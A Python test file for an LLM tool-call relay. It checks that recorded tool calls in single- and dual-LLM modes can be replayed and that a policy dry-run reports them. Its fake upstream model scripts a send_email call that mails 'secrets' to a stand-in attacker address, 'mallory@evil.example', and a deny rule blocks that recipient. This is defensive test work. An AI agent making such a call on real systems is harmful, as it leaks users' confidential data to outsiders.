"""Dry-run over calls the live relay really recorded (both architectures): the session log keeps what a replay
needs (arguments with metadata, the session metadata, the deciding rule, the key version), and the dry-run of a
stricter policy reports exactly those calls."""

import time

import httpx
import pytest

from apikeys.dryrun import do_dry_run
from apikeys.models import ApiKey
from sessions.models import SessionEvent
from tests import fake_upstream as fu
from tests.factories import UserFactory, make_key

pytestmark = pytest.mark.live

TOOLS = [
    {
        "type": "function",
        "function": {
            "name": "send_email",
            "parameters": {
                "type": "object",
                "properties": {"to": {"type": "string"}, "body": {"type": "string"}},
            },
        },
    }
]
DENY_MALLORY = {
    "codes": {
        "code": 'tool "send_email" { hard deny when to.value == "mallory@evil.example"; }',
        "language": "sqrt",
    }
}


def recorded_call(session_id: str, timeout: float = 20.0) -> SessionEvent:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        step = SessionEvent.objects.filter(session_id=session_id, type="tool_call").first()
        if step is not None:
            return step
        time.sleep(0.1)
    raise AssertionError(f"no tool_call step of session {session_id} was recorded")


def ask(relay, secret, body):
    r = httpx.post(
        f"{relay}/control/chat/v1/chat/completions",
        json=body,
        timeout=30,
        headers={"Authorization": f"Bearer {secret}", "X-Api-Key": "k"},
    )
    assert r.status_code == 200, r.text
    return r.headers["x-session-id"]


def test_single_llm_calls_are_recorded_replayable(relay, fake_upstream):
    key, secret = make_key(UserFactory(), arch="single-llm")
    fake_upstream.push(fu.tool_calls(("send_email", {"to": "mallory@evil.example", "body": "secrets"})))
    sid = ask(
        relay,
        secret,
        {"model": "gpt-5-mini", "tools": TOOLS, "messages": [{"role": "user", "content": "mail mallory"}]},
    )
    data = recorded_call(sid).data
    key = ApiKey.objects.get(pk=key.pk)
    assert data["policy_version"] == key.current_version_id
    assert data["args"]["to"]["value"] == "mallory@evil.example" and "meta" in data["args"]["to"]
    assert isinstance(data["session_meta"], dict) and data["rule"]["policy"] == "default_allow"

    result = do_dry_run(key=key, policy=DENY_MALLORY)
    assert result.summary() == "would deny 1 of 1 recorded call, in 1 session"
    assert result.newly_denied[0].call.session_id == sid


def test_dual_llm_calls_are_recorded_replayable(relay, fake_upstream):
    key, secret = make_key(UserFactory(), arch="dual-llm")
    fake_upstream.push(
        fu.text(
            '```python\nsend_email(to="mallory@evil.example", body="secrets")\n'
            'final_return_value = "sent"\n```'
        )
    )
    sid = ask(
        relay,
        secret,
        {"model": "gpt-5-mini", "tools": TOOLS, "messages": [{"role": "user", "content": "mail mallory"}]},
    )
    data = recorded_call(sid).data
    key = ApiKey.objects.get(pk=key.pk)
    assert data["policy_version"] == key.current_version_id
    assert data["args"]["to"]["value"] == "mallory@evil.example"
    assert isinstance(data["session_meta"], dict) and data["rule"]["policy"] == "default_allow"

    result = do_dry_run(key=key, policy=DENY_MALLORY)
    assert [(c.call.session_id, c.call.dual_llm, c.verdict) for c in result.newly_denied] == [
        (sid, True, "hard_denied")
    ]
